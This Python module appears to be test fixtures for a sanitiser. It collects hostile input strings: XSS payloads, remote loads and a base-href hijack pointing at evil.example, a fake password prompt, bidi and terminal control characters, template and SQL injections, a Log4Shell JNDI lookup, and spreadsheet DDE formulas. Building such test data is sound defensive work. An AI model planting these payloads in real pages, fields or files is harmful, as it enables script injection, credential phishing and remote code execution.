"""Texts that somebody writes to run a script, to load something, to hide, or to be computed."""

OWN = "document.title='owned'"

SCRIPTS = (
    f"<script>{OWN}</script>",
    f"<SCRIPT SRC=data:text/javascript,{OWN}></SCRIPT>",
    f"<scr<script>ipt>{OWN}</scr</script>ipt>",
    f"</textarea></title></style></script><script>{OWN}</script>",
    f"--></style></script><script>{OWN}</script><!--",
    f"]]><script>{OWN}</script><![CDATA[",
    f"\u003cscript\u003e{OWN}\u003c/script\u003e",
    f"&lt;script&gt;{OWN}&lt;/script&gt;",
    f"%3Cscript%3E{OWN}%3C/script%3E",
    f"<script type=module>{OWN}</script>",
    f'<noscript><p title="</noscript><script>{OWN}</script>">',
    f"<template><script>{OWN}</script></template>",
    f'<iframe srcdoc="<script>parent.{OWN}</script>"></iframe>',
    f'<object data="data:text/html,<script>{OWN}</script>"></object>',
    f'<embed src="data:text/html,<script>{OWN}</script>">',
)

HANDLERS = (
    f'<img src=x onerror="{OWN}">',
    f'<img/src="x"/onerror={OWN}>',
    f'"><img src=x onerror="{OWN}">',
    f"'><img src=x onerror={OWN}>",
    f"' onmouseover='{OWN}' x='",
    f'" autofocus onfocus="{OWN}" x="',
    f'<input autofocus onfocus="{OWN}">',
    f'<details open ontoggle="{OWN}"><summary>x</summary></details>',
    f'<body onload="{OWN}">',
    f'<video><source onerror="{OWN}"></video>',
    f'<audio src=x onerror="{OWN}"></audio>',
    f'<marquee onstart="{OWN}">x</marquee>',
    f'<div style="animation:x" onanimationstart="{OWN}">',
    f'<a href="#" onclick="{OWN}">Read more</a>',
    f'<form onsubmit="{OWN}"><button>Go</button></form>',
)

PICTURES = (
    f'<svg onload="{OWN}">',
    f"<svg><script>{OWN}</script></svg>",
    f'<svg><animate onbegin="{OWN}" attributeName=x></svg>',
    f'<svg><a xlink:href="javascript:{OWN}"><text y=20>x</text></a></svg>',
    f'<svg><foreignObject><body onload="{OWN}"/></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><img src onerror="{OWN}">',
    '<img src="http://evil.example/pixel.png">',
    '<picture><source srcset="http://evil.example/a.png"></picture>',
    '<link rel=stylesheet href="http://evil.example/a.css">',
    '<link rel=preload as=image href="http://evil.example/a.png">',
)

ADDRESSES = (
    f"javascript:{OWN}",
    f"JaVaScRiPt:{OWN}",
    f" javascript:{OWN}",
    f"java\nscript:{OWN}",
    f"java\tscript:{OWN}",
    f"data:text/html,<script>{OWN}</script>",
    f"vbscript:{OWN}",
    "file:///etc/passwd",
    "//evil.example/",
    "http://evil.example@127.0.0.1/",
    "https://пример.example/\u202egnp.exe",
    "http://[::1",
)

STYLES = (
    "<style>body{display:none}</style>",
    "<style>@import 'http://evil.example/a.css';</style>",
    "<div style=\"position:fixed;inset:0;background:url('http://evil.example/a')\">x</div>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<dialog open>Your session has ended. <input type=password></dialog>",
    "</li></ol></main></body></html>",
)

INVISIBLE = (
    "\u202e\u2066evil\u2069 \u200b\u200d\ufeff",
    "\u202dabc\u202c\u200e\u200f\u061c",
    "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "\x1b[31mred\x07 \x00 \x9b2J",
    "\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "tag\U000e0061\U000e0062\U000e007f",
    "\ufff9x\ufffay\ufffb",
    "line\u2028separator\u2029paragraph\x85next",
)

TEMPLATES = (
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> #{7*7}",
    "{{ config }} {{ self.__init__.__globals__ }}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE article; --",
    '" OR words MATCH "*',
)

FORMULAS = (
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "%0A=1+1",
)

HOSTILE = (
    *SCRIPTS, *HANDLERS, *PICTURES, *ADDRESSES, *STYLES, *INVISIBLE, *TEMPLATES, *FORMULAS,
)  # fmt: skip
